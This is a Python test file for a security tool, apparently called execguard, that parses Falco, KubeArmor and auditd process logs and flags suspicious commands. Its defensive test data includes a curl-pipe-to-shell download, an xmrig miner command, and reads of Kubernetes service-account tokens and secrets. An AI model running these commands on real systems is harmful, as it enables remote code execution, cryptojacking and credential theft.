"""Process telemetry sources: Falco JSON alerts, auditd logs (raw, ENRICHED, `ausearch -i`), KubeArmor alerts and logs.

Real samples where the shared corpus has them (KubeArmor's docs, go-libaudit's auditd logs), written ones
for what it lacks (Falco syscall alerts, auditd container records); see tests/data/README.md.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from execguard.cli import app
from execguard.model import Event, SourceRef
from execguard.pipeline.prefilter import literals_for
from execguard.sources import auditd, falco, kubearmor
from execguard.sources.base import SourceError
from execguard.sources.reader import Reader
from rules_builder import builtin_rules, hunt, rule_ids

DATA = Path(__file__).parent / "data"
FALCO = DATA / "falco-output" / "alerts.jsonl"
KUBEARMOR = DATA / "kubearmor" / "kubearmor_alerts_logs_extracted_from_docs.jsonl"
AUDIT_WRITTEN = DATA / "auditd" / "written-container-exec.log"
AUSEARCH = DATA / "auditd" / "written-ausearch-i.log"
RHEL7 = DATA / "auditd" / "audit-rhel7.log"
CID = "5d4c3b2a19f8e7d6c5b4a39281706f5e4d3c2b1a0f9e8d7c6b5a493827160504"


def read(*paths: Path, literals: list[bytes] | None = None) -> tuple[list[Event], list[tuple[int | None, str]], Reader]:
    warnings: list[tuple[int | None, str]] = []
    reader = Reader(literals=literals, warn=lambda f, n, m: warnings.append((n, m)))
    return list(reader.read([str(p) for p in paths])), warnings, reader


def by_line(events: list[Event]) -> dict[int | None, Event]:
    return {e.source.line: e for e in events}


# ---- Falco ----------------------------------------------------------------------------------------


def test_falco_alert_becomes_a_process_event_with_its_fields() -> None:
    events = read(FALCO)[0]
    assert {e.source.format for e in events} == {"falco"} and {e.action for e in events} == {"process"}
    shell = by_line(events)[1]
    assert shell.command == ["sh"] and shell.verb == "execve" and shell.outcome == "allowed"
    assert shell.time == "2026-11-26T20:00:00.123456789Z"
    p = shell.process
    assert p is not None
    assert (p.pid, p.ppid, p.exe, p.cwd, p.uid) == (48211, 48190, "/bin/busybox", "/app/", 0)
    assert p.parent_exe == "/usr/bin/runc" and p.parent_command[:2] == ["runc", "--root"]
    assert p.in_init_tree is False  # its parent is the runtime: it came in by an exec
    t = shell.target
    assert (t.namespace, t.pod, t.container, t.container_id) == ("shop", "web-7d9f8c6b5-x2k4q", "web", "3f1c2a9b7e4d")
    assert (t.image, t.node, t.kind) == ("registry.example/shop/web:1.4.2", "node-a", "container")
    # a process, not an API caller: no actor; the Linux user is who it runs as
    assert shell.actor.user is None and shell.run_as_user == "root"


def test_falco_numbers_as_strings_old_alerts_and_host_processes() -> None:
    got = by_line(read(FALCO)[0])
    miner = got[3].process
    assert miner is not None and (miner.pid, miner.ppid, miner.uid) == (48244, 48230, 0)
    assert miner.in_init_tree is None  # a child of a shell: the record cannot tell
    old = got[10]  # 2018-era: no evt.type, cmdline with a trailing space, parent null
    assert old.command == ["bash"] and old.process is not None and old.process.parent_exe is None
    assert old.target.container_id == "bb1a36fcb1d5" and old.target.pod == "falco-dnxsm"
    host = got[9]
    assert host.target.kind == "host" and host.target.container_id is None and host.run_as_user == "admin"


def test_falco_ancestors_put_a_descendant_of_an_exec_outside_the_init_tree() -> None:
    rec = json.loads(FALCO.read_text().splitlines()[1])  # sh -c curl ... | sh, parent sh
    ref = SourceRef(format="falco", file="f", line=1)
    [ev] = falco.events(rec, ref)
    assert ev.process is not None and ev.process.in_init_tree is None
    rec["output_fields"]["proc.aname[3]"] = "containerd-shim"
    rec["output_fields"]["proc.aname[2]"] = "runc"
    [ev] = falco.events(rec, ref)
    assert ev.process is not None and ev.process.in_init_tree is False


def test_falco_alerts_that_start_no_process_are_counted_not_read() -> None:
    events, warnings, reader = read(FALCO)
    lines = {e.source.line for e in events}
    assert not lines & {5, 6, 7}  # an openat, a dup2, a k8s_audit plugin alert
    assert reader.stats.not_process == 3
    assert warnings == [(11, "falco: output_fields is str, not an object")]
    assert reader.stats.bad == 1 and reader.stats.by_format["falco"] == 7


def test_falco_argv_is_split_on_spaces_and_redacted() -> None:
    got = by_line(read(FALCO)[0])
    assert got[2].command == ["sh", "-c", "curl", "-s", "http://203.0.113.9/x.sh", "|", "sh"]
    assert got[8].command == ["mysql", "-h", "db", "-uroot", "-p[REDACTED]", "shop"]


def test_falco_match_and_other_formats_do_not_take_its_records() -> None:
    rec = json.loads(FALCO.read_text().splitlines()[0])
    assert falco.match(rec) and not kubearmor.match(rec)
    # the reader tries sources in order: no earlier one claims a Falco alert
    from execguard.sources import JSON_SOURCES

    assert next(s for s in JSON_SOURCES if s.match(rec)) is falco


# ---- KubeArmor ------------------------------------------------------------------------------------


def test_kubearmor_process_records_and_skipped_file_network_records() -> None:
    events, warnings, reader = read(KUBEARMOR)
    assert warnings == []
    assert len(events) == 17 and reader.stats.not_process == 37  # File, Network and Syscall records
    assert {e.action for e in events} == {"process"}
    token = by_line(events)[53]
    assert token.command == ["/bin/sh", "-c", "cat", "/run/secrets/kubernetes.io/serviceaccount/token"]
    p = token.process
    assert p is not None and p.in_init_tree is False and p.parent_exe is not None and p.parent_exe.endswith("/runc")
    assert (p.pid, p.ppid) == (3488357, 3488352)  # the node's pids (HostPID, HostPPID)
    t = token.target
    assert (t.cluster, t.namespace, t.pod, t.container) == ("default", "default", "nginx-8f458dc5b-fl42t", "nginx")
    assert t.node == "ip-172-31-24-142"  # HostName: the records name no NodeName
    assert t.container_id == "8762eafc25a35ab90089f79703b86659989e8e547c2c029fb60f55d884355000"
    assert token.time == "2023-06-11T13:43:43.289380Z" and token.outcome == "allowed"


def test_kubearmor_blocked_exec_is_denied_and_uid_cwd_are_read() -> None:
    got = by_line(read(KUBEARMOR)[0])
    blocked = got[1]
    assert blocked.command == ["/usr/bin/apt", "update"] and blocked.outcome == "denied"
    pydoc = next(e for e in got.values() if e.command[:1] == ["/usr/bin/python3.6"])
    assert pydoc.process is not None and (pydoc.process.uid, pydoc.process.cwd) == (0, "/")
    vault = next(e for e in got.values() if "vault" in e.command)
    assert vault.process is not None and vault.process.uid == 100 and vault.time is None


def test_kubearmor_bad_record_is_named_and_the_rest_flows(tmp_path: Path) -> None:
    good = KUBEARMOR.read_text().splitlines()[52]  # the bottlerocket token read
    bad = json.dumps({"Operation": "Process", "HostPID": 1, "ProcessName": None, "Source": "", "Resource": "<NA>"})
    path = tmp_path / "karmor.jsonl"
    path.write_text("\n".join([bad, good, "{not json"]) + "\n")
    events, warnings, reader = read(path)
    assert [e.source.line for e in events] == [2]
    assert warnings[0] == (1, "kubearmor: KubeArmor Process record without Resource or ProcessName")
    assert [n for n, _ in warnings] == [1, 3] and reader.stats.bad == 2


# ---- auditd ---------------------------------------------------------------------------------------


def test_auditd_groups_interleaved_records_and_decodes_hex() -> None:
    events = read(AUDIT_WRITTEN)[0]
    got = by_line(events)
    first = got[1]
    assert first.source.format == "auditd" and first.action == "process" and first.verb == "execve"
    assert first.command == ["sh", "-c", "curl -s http://203.0.113.9/x.sh | sh"]  # hex argument decoded, boundaries kept
    p = first.process
    assert p is not None and (p.pid, p.ppid, p.uid, p.exe, p.cwd) == (48211, 48190, 0, "/bin/busybox", "/app")
    assert first.target.container_id == CID and first.target.kind == "container"  # from the cgroup= path
    assert first.actor.user == "auid:1000" and first.run_as_user == "0"  # the login uid: a person on the node
    assert first.time == "2026-11-26T20:00:00.101Z"
    other = got[2]  # interleaved with the first, completed first by its own EOE
    assert other.command == ["ls", "/srv"] and other.actor.user is None and other.target.container_id is None
    assert other.process is not None and "container unknown" in other.process.known


def test_auditd_split_arguments_proctitle_node_and_container_id_record() -> None:
    got = by_line(read(AUDIT_WRITTEN)[0])
    split = got[11]
    assert split.command == ["sh", "-c", "curl -H 'Authorization: Bearer [REDACTED]' https://10.96.0.1/api/v1/secrets"]
    title = got[15]
    assert title.command == ["./xmrig", "-o", "stratum+tcp://pool.supportxmr.com:3333"]
    assert title.process is not None and "PROCTITLE" in title.process.known
    assert title.target.node == "worker-2" and title.target.container_id == CID


def test_auditd_bad_line_enriched_names_denied_exec_and_non_exec_syscalls() -> None:
    events, warnings, reader = read(AUDIT_WRITTEN)
    assert warnings == [(22, "auditd: unreadable audit time 'yesterday'")]
    assert sorted(e.source.line for e in events) == [1, 2, 11, 15, 23, 25]  # the openat (line 18) is no event
    enriched = by_line(events)[23]  # no EOE: it goes out once the log moved on
    assert enriched.actor.user == "alice" and enriched.run_as_user == "alice" and enriched.outcome == "denied"
    assert enriched.command == ["docker", "exec", "-it", "web", "sh"]
    assert reader.stats.by_format["auditd"] == 6


def test_auditd_ausearch_interpreted_form() -> None:
    events, warnings, _ = read(AUSEARCH)
    assert warnings == []
    token, ls = sorted(events, key=lambda e: e.source.line or 0)
    assert token.command == ["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"]
    assert token.time == "2026-11-26T20:00:01.123Z" and token.actor.user == "alice" and token.run_as_user == "root"
    assert token.process is not None and (token.process.pid, token.process.exe, token.process.cwd) == (48400, "/bin/busybox", "/")
    assert ls.command == ["ls"] and ls.actor.user is None and ls.run_as_user == "www-data"


def test_auditd_real_logs() -> None:
    # go-libaudit's RHEL 7 log: four execs among 46 events of other kinds, one with a hex argument holding newlines
    events, warnings, _ = read(RHEL7)
    assert warnings == [] and len(events) == 4
    assert events[0].command == ["auditctl", "-a", "exit,always", "-F", "arch=b32", "-S", "execve"]
    jq = next(e for e in events if e.command[0] == "jq")
    assert jq.command[2].startswith('{\n        "dev": "08:01"')
    # the real docker CLI execve of go-libaudit's ubuntu 17.04 cases, cut from its yaml as it is
    text = (DATA / "auditd" / "ubuntu-17.04-linux-4.10.0.yaml").read_text()
    block = text.split("EXECVE with multiple keys: |\n", 1)[1].split("\n\n", 1)[0]
    lines = [ln.strip() for ln in block.splitlines()]
    parser = auditd.Parser("docker.log")
    out = [e for i, ln in enumerate(lines, 1) for e in parser.feed(i, ln.encode())] + list(parser.close())
    [ev] = out
    assert ev.command == ["docker", "inspect", "721df12151a7"] and ev.actor.user == "auid:1002"
    assert ev.process is not None and (ev.process.pid, ev.process.ppid, ev.process.cwd) == (5821, 5820, "/home/andrew_kroh")


def test_auditd_sniffed_from_its_head_but_not_from_json_mentioning_it() -> None:
    assert auditd.sniff(AUDIT_WRITTEN.read_bytes()[:4096])
    assert auditd.sniff(b"Dec  2 07:00:00 n1 audispd: node=n1 type=EXECVE msg=audit(1.2:3): argc=1 a0=\"id\"\n")
    # a command that quotes an audit record must not turn a JSON log into an auditd one
    assert not auditd.sniff(b'{"requestURI":"/x?command=type%3D","cmd":"echo type=EXECVE msg=audit(1.2:3): x"}\n')


def test_auditd_buffer_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(auditd, "PENDING_LIMIT", 3)
    parser = auditd.Parser("x.log")
    out: list[Event] = []
    for serial in range(10):  # ten execs whose EOE never comes, all in the same second
        out += parser.feed(serial + 1, f'type=EXECVE msg=audit(1795723200.000:{serial}): argc=1 a0="id{serial}"'.encode())
        assert len(parser._open) <= 3
    out += parser.close()
    assert [e.command for e in out] == [[f"id{i}"] for i in range(10)]


# ---- every source through the prefilter and the rules ---------------------------------------------


@pytest.mark.parametrize("path", [FALCO, KUBEARMOR, AUDIT_WRITTEN, AUSEARCH], ids=lambda p: p.name)
def test_prefilter_keeps_every_process_event(path: Path) -> None:
    literals = literals_for({"process"})
    assert literals is not None
    fast = [(e.source.line, e.command) for e in read(path, literals=literals)[0]]
    slow = [(e.source.line, e.command) for e in read(path)[0]]
    assert fast == slow


def test_hunt_rates_process_events_on_the_ladder() -> None:
    alerts = {a.event.source.line: a for a in hunt([FALCO])}
    assert alerts[1].severity == "low" and rule_ids(alerts[1]) == {"node-exec-shell"}
    assert alerts[2].severity == "critical" and "cmd-download-pipe-shell" in rule_ids(alerts[2])
    assert alerts[3].severity == "critical" and "cmd-miner" in rule_ids(alerts[3])
    assert 4 not in alerts and 9 not in alerts and 10 not in alerts  # ls; a host shell; a shell of unknown parentage
    audit = {a.event.source.line: a for a in hunt([AUDIT_WRITTEN, AUSEARCH])}
    assert {a.lead.rule_id for a in audit.values()} >= {"cmd-download-pipe-shell", "cmd-miner", "cmd-credential-access"}


def test_hunt_names_the_formats_and_the_skipped_records() -> None:
    res = CliRunner().invoke(app, ["hunt", "-o", "jsonl", str(FALCO), str(KUBEARMOR), str(AUDIT_WRITTEN)])
    assert res.exit_code == 0, res.stderr
    assert "falco=7" in res.stderr and "kubearmor=17" in res.stderr and "auditd=6" in res.stderr
    # the prefilter already passes over KubeArmor's File and Network lines; Falco's open, dup2 and k8s_audit alerts are read
    assert "3 process-telemetry records that start no process skipped" in res.stderr
    slow = CliRunner().invoke(app, ["hunt", "-o", "jsonl", "--no-prefilter", str(FALCO), str(KUBEARMOR), str(AUDIT_WRITTEN)])
    assert "40 process-telemetry records that start no process skipped" in slow.stderr
    assert slow.stdout == res.stdout
    assert f"{FALCO}:11: falco: output_fields is str, not an object" in res.stderr
    alerts = [json.loads(x) for x in res.stdout.splitlines()]
    shell = next(a for a in alerts if a["rule_id"] == "node-exec-shell" and a["source"]["format"] == "falco")
    assert shell["action"] == "process" and shell["process"]["in_init_tree"] is False
    assert shell["process"]["parent_exe"] == "/usr/bin/runc"
    assert all("FalcoPw77x" not in x and "AuditTok55" not in x for x in res.stdout.splitlines())


def test_rules_on_process_events_are_the_command_rules() -> None:
    """Every content rule (cmd-*) runs on process events; no API-side rule does."""
    for rule in builtin_rules():
        acts = rule.actions or set()
        if rule.rule_id.startswith("cmd-"):
            assert "process" in acts, rule.rule_id
        elif rule.rule_id != "node-exec-shell":
            assert "process" not in acts, rule.rule_id


AUDIT_PIECES = [
    "type=SYSCALL msg=audit(1795723200.101:7): ", "type=EXECVE msg=audit(1795723200.101:7): ", "type=EOE msg=audit(1795723200.101:7): ",
    "type=PROCTITLE msg=audit(99999999999.9:8): ", "type=CWD msg=audit(11/26/2026 20:00:01.123:9) : ", "node=n1 ", "----",
    "syscall=59 ", "syscall=execve ", "argc=2 ", "argc=-1 ", "a0=", "a1[0]=", "a1[1]=", "a1_len=9 ", '"sh" ', "6964 ", "zz ",
    "proctitle=", "cwd=", "exe=", "pid=12 ", "pid=1e999 ", "auid=alice ", "contid=", "cgroup=/docker/", "\x1dAUID=", "(null) ",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(lines=st.lists(st.lists(st.one_of(st.sampled_from(AUDIT_PIECES), st.text(max_size=6)), max_size=10).map("".join), max_size=12))
def test_auditd_parser_raises_only_source_error(lines: list[str]) -> None:
    parser = auditd.Parser("fuzz.log")
    for i, line in enumerate(lines, 1):
        try:
            for ev in parser.feed(i, line.encode("utf-8", "surrogatepass")):
                assert ev.action == "process" and ev.source.line is not None
        except SourceError:
            pass
    list(parser.close())


def test_numbers_and_times_out_of_range_read_as_unknown() -> None:
    ref = SourceRef(format="falco", file="f", line=1)
    rec = {"rule": "r", "output": "o", "output_fields": {"proc.cmdline": "sh", "proc.pid": "1e999", "evt.time": 10**25}}
    [ev] = falco.events(rec, ref)
    assert ev.command == ["sh"] and ev.time is None and ev.process is not None and ev.process.pid is None
    [ka] = kubearmor.events({"Operation": "Process", "HostPID": "inf", "Resource": "sh", "Timestamp": 1e300}, ref)
    assert ka.time is None and ka.process is not None and ka.process.pid is None


def test_auditd_records_of_other_kinds_give_no_event_and_no_warning(tmp_path: Path) -> None:
    # go-libaudit's real logs without an execve: logins, AppArmor denials in docker-default containers, an unlink
    events, warnings, reader = read(DATA / "auditd" / "audit-ubuntu16.log")
    assert events == [] and warnings == [] and reader.stats.by_format == {}
    text = (DATA / "auditd" / "ubuntu-16.04-linux-4.13.0.yaml").read_text()
    lines = [ln.strip() for ln in text.splitlines() if ln.strip().startswith("type=")]
    path = tmp_path / "avc.log"
    path.write_text("\n".join(lines) + "\n")
    events, warnings, reader = read(path)
    assert len(lines) == 11 and events == [] and warnings == []
